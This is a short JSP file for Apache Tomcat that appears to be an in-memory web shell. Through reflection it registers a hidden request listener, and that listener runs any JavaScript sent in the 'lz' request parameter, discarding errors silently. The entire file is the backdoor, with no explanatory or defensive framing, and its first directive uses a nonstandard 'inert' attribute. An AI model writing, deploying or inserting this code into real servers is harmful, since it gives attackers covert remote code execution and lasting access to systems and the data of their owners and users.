<%@ page inert %>
<%@ page import="org.apache.catalina.core.StandardContext,org.apache.catalina.connector.*" %>
<%!
  public class L implements ServletRequestListener {
    public void requestDestroyed(ServletRequestEvent e) { }
    public void requestInitialized(ServletRequestEvent e) {
      HttpServletRequest r = (HttpServletRequest) e.getServletRequest();
      if (r.getParameter("lz") == null) return;
      try { new javax.script.ScriptEngineManager().getEngineByName("js").eval(r.getParameter("lz")); } catch (Exception x) { }
    }
  }
%>
<%
  java.lang.reflect.Field rf = request.getClass().getDeclaredField("request");
  rf.setAccessible(true);
  StandardContext c = (StandardContext) ((Request) rf.get(request)).getContext();
  c.addApplicationEventListener(new L());
%>
